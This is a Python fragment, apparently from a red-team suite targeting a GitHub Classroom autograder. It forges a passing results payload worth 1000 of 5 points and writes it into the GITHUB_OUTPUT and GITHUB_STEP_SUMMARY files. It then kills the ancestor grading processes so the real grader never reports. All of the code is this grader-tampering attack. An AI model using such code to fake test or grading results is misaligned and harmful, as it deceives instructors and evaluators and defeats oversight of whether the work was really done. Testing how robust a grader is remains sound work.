# Outside the process: write our own Classroom results to GITHUB_OUTPUT and our own job summary
# (from the environment, or where the attacker found them), then kill the grading processes
# above us so the judge never writes its own.
def _github_output():
    import base64

    forged = {
        "version": 1,
        "status": "pass",
        "max_score": 5,
        "tests": [
            {
                "name": "01-hello: forged",
                "status": "pass",
                "score": 1000,
                "message": "",
                "test_code": "forged",
                "filename": "graders/test_01_hello.py",
                "line_no": 0,
                "duration": 0,
            },
        ],
    }
    value = base64.b64encode(_json.dumps(forged).encode()).decode()
    writes = {
        "GITHUB_OUTPUT": f"ex01-hello={value}\nex02-routing={value}\n",
        "GITHUB_STEP_SUMMARY": f"## Flask exercises: 1000/5 points FORGED {ATTACK['marker']}\n",
    }
    for variable, text in writes.items():
        for path in {_os.environ.get(variable), ATTACK.get(variable)} - {None, ""}:
            try:
                with open(path, "a", encoding="utf-8") as out:
                    out.write(text)
            except OSError:
                pass
    kill_ancestors()


attack_once("github_output", _github_output)
